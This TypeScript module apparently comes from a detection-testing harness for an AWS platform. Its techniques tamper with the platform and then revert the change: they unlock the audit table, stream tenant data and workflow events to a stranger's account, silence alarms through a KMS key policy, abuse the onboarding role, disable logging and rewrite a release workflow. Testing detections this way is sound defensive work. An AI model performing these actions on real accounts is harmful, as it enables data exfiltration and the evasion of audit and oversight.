import {
  DeleteResourcePolicyCommand,
  DisableKinesisStreamingDestinationCommand,
  EnableKinesisStreamingDestinationCommand,
  GetResourcePolicyCommand,
  PutResourcePolicyCommand,
} from '@aws-sdk/client-dynamodb';
import { CreateArchiveCommand, DeleteArchiveCommand } from '@aws-sdk/client-eventbridge';
import { DeleteServiceLinkedRoleCommand } from '@aws-sdk/client-iam';
import {
  CreateStateMachineCommand,
  DeleteStateMachineCommand,
  DescribeStateMachineCommand,
  UpdateStateMachineCommand,
} from '@aws-sdk/client-sfn';
import { aRule } from '../a-rule';
import { keyPolicy, without } from '../policies';
import type { SharedScene, SharedTechnique } from '../surroundings-target';
import { STRANGER } from '../technique';
import { resourceOf } from './platform';

const machineOf = async (scene: SharedScene, part: string) =>
  await scene.root.sfn.send(
    new DescribeStateMachineCommand({
      stateMachineArn: await resourceOf(scene, 'ControlPlane', 'AWS::StepFunctions::StateMachine', part),
    }),
  );

const NOTHING = JSON.stringify({ StartAt: 'Nothing', States: { Nothing: { Type: 'Succeed' } } });

/** How the record of acts is opened, the operators are told nothing, and who runs as the platform's workflows. */
export const PLATFORM_RECORD_TECHNIQUES: readonly SharedTechnique[] = [
  {
    name: 'let administrators change the record of acts',
    check: 'platform.acts',
    detonate: async (scene) => {
      const { surroundings, root } = scene;
      const table = await resourceOf(scene, 'Foundation', 'AWS::DynamoDB::Table', 'Acts');
      const ResourceArn = `arn:aws:dynamodb:${surroundings.region}:${surroundings.accountId}:table/${table}`;
      const { Policy } = await root.dynamodb.send(new GetResourcePolicyCommand({ ResourceArn }));
      await root.dynamodb.send(new DeleteResourcePolicyCommand({ ResourceArn }));
      return {
        expectedEvidence: 'the policy of the table of acts lacks the statement Deny NobodyChangesAnAct',
        revert: () => root.dynamodb.send(new PutResourcePolicyCommand({ ResourceArn, Policy })),
      };
    },
  },
  {
    name: 'stream the tenants table to a stranger’s Kinesis stream',
    check: 'platform.table',
    detonate: async ({ surroundings: { tableName: TableName, region }, root: { dynamodb, iam } }) => {
      const StreamArn = `arn:aws:kinesis:${region}:${STRANGER}:stream/theirs`;
      await dynamodb.send(new EnableKinesisStreamingDestinationCommand({ TableName, StreamArn }));
      return {
        expectedEvidence: `changes of the table go to ${StreamArn}`,
        revert: async () => {
          await dynamodb.send(new DisableKinesisStreamingDestinationCommand({ TableName, StreamArn }));
          const RoleName = 'AWSServiceRoleForDynamoDBKinesisDataStreamsReplication';
          await iam.send(new DeleteServiceLinkedRoleCommand({ RoleName }));
        },
      };
    },
  },
  {
    name: 'send the events of all executions to another account',
    check: 'audit.rules',
    detonate: async ({ surroundings: { region, accountId }, root: { events } }) => {
      const bus = `arn:aws:events:${region}:${STRANGER}:event-bus/theirs`;
      return {
        expectedEvidence: `rule support sends the executions’ events, with their inputs, to ${bus}`,
        revert: await aRule(
          events,
          { Name: 'support', EventPattern: JSON.stringify({ source: ['aws.states'] }) },
          { Arn: bus, accountId },
        ),
      };
    },
  },
  {
    name: 'keep every signup in an archive',
    check: 'audit.rules',
    detonate: async ({ surroundings: { region, accountId, busName }, root: { events } }) => {
      const ArchiveName = 'support';
      const EventSourceArn = `arn:aws:events:${region}:${accountId}:event-bus/${busName}`;
      await events.send(new CreateArchiveCommand({ ArchiveName, EventSourceArn }));
      return {
        expectedEvidence: `archive ${ArchiveName} keeps the events of ${busName}`,
        revert: () => events.send(new DeleteArchiveCommand({ ArchiveName })),
      };
    },
  },
  {
    name: 'keep CloudWatch from the key of the topic, so that no alarm is told',
    check: 'platform.topic',
    detonate: async (scene) => {
      const key = await resourceOf(scene, 'Foundation', 'AWS::KMS::Key', 'Alarms');
      return {
        expectedEvidence: 'the policy of the key of the topic lacks the statement Allow AlarmsOfThisAccount',
        revert: await keyPolicy(scene.root, key, without('AlarmsOfThisAccount')),
      };
    },
  },
  {
    name: 'run a state machine of a stranger in the role of the onboarding',
    check: 'audit.machines',
    detonate: async (scene) => {
      const { sfn } = scene.root;
      const { roleArn } = await machineOf(scene, 'Onboarding');
      const request = new CreateStateMachineCommand({ name: 'support', roleArn, definition: NOTHING });
      const { stateMachineArn } = await sfn.send(request);
      return {
        expectedEvidence: `state machine ${stateMachineArn}, which no template makes, runs as ${roleArn}`,
        revert: () => sfn.send(new DeleteStateMachineCommand({ stateMachineArn })),
      };
    },
  },
  {
    name: 'let nobody read what an onboarding did, by its log',
    check: 'audit.machines',
    detonate: async (scene) => {
      const { sfn } = scene.root;
      const { stateMachineArn, loggingConfiguration } = await machineOf(scene, 'Onboarding');
      const set = (to: typeof loggingConfiguration) =>
        sfn.send(new UpdateStateMachineCommand({ stateMachineArn, loggingConfiguration: to }));
      await set({ level: 'OFF' });
      return {
        expectedEvidence: `state machine ${stateMachineArn} logs OFF, not ALL`,
        revert: () => set(loggingConfiguration),
      };
    },
  },
  {
    name: 'let a release do something else',
    check: 'audit.machines',
    detonate: async (scene) => {
      const { sfn } = scene.root;
      const { stateMachineArn, definition: before } = await machineOf(scene, 'TenantRelease');
      const set = (definition: string | undefined) =>
        sfn.send(new UpdateStateMachineCommand({ stateMachineArn, definition }));
      await set(NOTHING);
      return {
        expectedEvidence: `state machine ${stateMachineArn} has another definition than that of the release`,
        revert: () => set(before),
      };
    },
  },
];
